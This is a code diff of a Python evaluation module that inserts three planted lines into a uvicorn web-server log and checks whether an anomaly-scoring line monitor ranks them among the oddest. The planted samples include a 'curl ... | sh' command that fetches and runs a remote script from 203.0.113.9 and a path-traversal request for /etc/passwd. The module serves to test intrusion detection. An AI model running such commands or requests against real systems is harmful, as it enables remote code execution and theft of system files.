@@ -1,6 +1,7 @@
-"""Find three lines that somebody put into a real log.
+"""Find three lines that somebody put into the log of a web server.
 
-The log is one that dpkg wrote while Debian installed packages. The model has not seen it.
+The log is one that uvicorn wrote for a small shop, without its TRACE lines; the model has learned
+nothing from logs of uvicorn.
 """
 
 from collections.abc import Callable
@@ -8,12 +9,11 @@ from importlib.resources import files
 
 import msgspec
 
-from dst.runtime import Session
-from dst.runtime.monitor.monitor import LineMonitor
+from dst.runtime import LineMonitor, Session
 
-BUNDLE, LOG = "log-int8", "dpkg.log"
-OLDEST, SHOWN = 200, 5
-"""Lines at the beginning that are not judged, when nothing is usual yet; and lines shown."""
+BUNDLE, LOG = "log-int8", "uvicorn.log"
+UNJUDGED, SHOWN = 200, 5
+"""Lines at the beginning that are only learned from, when nothing is usual yet; and lines shown."""
 _PIECE = 4096
 
 
@@ -36,37 +36,34 @@ class OddLines(msgspec.Struct, frozen=True):
 
 
 PLANTED = (
-    (0.55, "{time} remove openssh-server:amd64 1:9.2p1-2+deb12u7 <none>"),
-    (0.7, "{time} status half-configured passwd:amd64 as uid 1007 from 203.0.113.9"),
-    (0.85, "curl -s http://203.0.113.9/x.sh | sh"),
+    (0.5, "{time} ERROR    shop.orders: payment refused for request 0, bank code 91"),
+    (0.65, 'INFO:     203.0.113.9:50022 - "GET /../../etc/passwd HTTP/1.1" 200 OK'),
+    (0.8, "curl -s http://203.0.113.9/x.sh | sh"),
 )
-"""After which share of the log a line is put in, and the line; `{time}`: of the line before."""
+"""After which share of the log a line is put in, and the line; `{time}` is the last time before."""
 
 
 def planted_log() -> tuple[bytes, set[int]]:
     """The log with the lines put in, and their numbers."""
-    text = files("dst").joinpath("heldout", LOG).read_text("utf-8")
-    lines, numbers = text.splitlines(), set()
-    for share, line in reversed(PLANTED):
-        place = int(share * len(lines))
-        lines.insert(place, line.format(time=lines[place - 1][:19]))
-    for number, line in enumerate(lines, 1):
-        if any(line.endswith(put.partition("{time}")[2] or put) for _, put in PLANTED):
-            numbers.add(number)
+    lines = files("dst").joinpath("heldout", LOG).read_text("utf-8").splitlines()
+    numbers = set()
+    for already, (share, line) in enumerate(PLANTED):
+        place = int(share * len(lines)) + already
+        time = next(old[:23] for old in reversed(lines[:place]) if old[:2] == "20")
+        lines.insert(place, line.format(time=time))
+        numbers.add(place + 1)
     return ("\n".join(lines) + "\n").encode(), numbers
 
 
 def odd_lines(told: Callable[[int, int], None]) -> OddLines:
     """Read the log once; `told` is called with the bytes read and their number in all."""
     log, planted = planted_log()
-    monitor, scored, count = LineMonitor(Session.open(BUNDLE).stream()), [], 0
+    monitor = LineMonitor(Session.open(BUNDLE).stream())
+    judged = []
     for at in range(0, len(log), _PIECE):
-        for line in monitor.read(log[at : at + _PIECE]):
-            count = line.number
-            if count > OLDEST:
-                scored.append((line.score.score, line))
+        judged += monitor.read(log[at : at + _PIECE])
         told(min(at + _PIECE, len(log)), len(log))
-    first = sorted(scored, key=lambda pair: -pair[0])[:SHOWN]
+    first = sorted(judged[UNJUDGED:], key=lambda line: -line.score.score)[:SHOWN]
     oddest = tuple(
         OddLine(
             line.number,
@@ -74,6 +71,6 @@ def odd_lines(told: Callable[[int, int], None]) -> OddLines:
             line.text.decode("utf-8", "replace"),
             line.number in planted,
         )
-        for _, line in first
+        for line in first
     )
-    return OddLines(count, len(log), len(planted), oddest)
+    return OddLines(len(judged), len(log), len(planted), oddest)
